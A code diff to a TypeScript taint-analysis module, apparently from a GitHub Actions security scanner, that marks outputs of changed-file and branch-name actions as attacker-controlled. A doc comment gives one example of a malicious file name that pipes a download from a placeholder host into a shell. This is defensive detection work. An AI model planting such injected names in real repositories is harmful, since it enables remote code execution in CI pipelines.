@@ -7,7 +7,7 @@ import {
   pathMatches,
 } from "../../formats/expressions.js";
 import { scalarText } from "../../formats/yaml.js";
-import type { Job, Step, Workflow } from "./model.js";
+import { actionName, type Job, type Step, type Workflow } from "./model.js";
 
 /**
  * Which values an outsider controls, and where they flow. Sources are event
@@ -58,10 +58,24 @@ const INPUT_PATTERNS = ["inputs.*", "github.event.inputs.*", "github.event.clien
 const attackerPatterns = ATTACKER_CONTROLLED.map((p) => p.split("."));
 const inputPatterns = INPUT_PATTERNS.map((p) => p.split("."));
 
+/**
+ * Actions whose outputs carry text from the pull request itself: changed file
+ * names and branch names are chosen by whoever opens it (a file may be named
+ * `$(curl evil|sh).md`).
+ */
+export const TAINTED_ACTION_OUTPUTS: ReadonlyMap<string, string> = new Map([
+  ["tj-actions/changed-files", "file names in the pull request"],
+  ["tj-actions/branch-names", "the pull request's branch name"],
+  ["jitterbit/get-changed-files", "file names in the pull request"],
+  ["dorny/paths-filter", "file names in the pull request"],
+]);
+
 /** A tainted value and the chain it came through, e.g. `env.TITLE` ← `github.event.issue.title`. */
 export interface TaintSource {
-  /** The attacker-controlled origin, dotted. */
+  /** The attacker-controlled origin: a dotted context path, or a description when `described`. */
   origin: string;
+  /** `origin` is prose (an action's outputs), not a context path. */
+  described?: boolean;
   /** Intermediate names, outermost first (`env.TITLE`, `steps.meta.outputs.title`). */
   via: string[];
 }
@@ -80,7 +94,10 @@ export interface TaintOptions {
 const MAX_DEPTH = 8;
 
 export function describeSource(source: TaintSource): string {
-  const chain = [...source.via, source.origin].map((s) => `\`${s}\``);
+  const chain = [
+    ...source.via.map((s) => `\`${s}\``),
+    source.described ? source.origin : `\`${source.origin}\``,
+  ];
   return chain.length === 1 ? chain[0]! : `${chain[0]} (from ${chain.slice(1).join(" ← ")})`;
 }
 
@@ -245,6 +262,8 @@ export class TaintModel {
     }
     // actions/github-script: core.setOutput('name', <value from the event payload or a tainted expression>).
     const uses = scalarText(step.uses)?.toLowerCase() ?? "";
+    const described = TAINTED_ACTION_OUTPUTS.get(actionName(uses));
+    if (described) out.set("*", { origin: `${described} (${actionName(uses)})`, via: [], described: true });
     const code = step.with.find((e) => e.key === "script");
     const codeText = scalarText(code?.value);
     if (uses.startsWith("actions/github-script@") && codeText) {
@@ -326,5 +345,5 @@ export class TaintModel {
 }
 
 function via(source: TaintSource, name: string): TaintSource {
-  return { origin: source.origin, via: [name, ...source.via] };
+  return { ...source, via: [name, ...source.via] };
 }
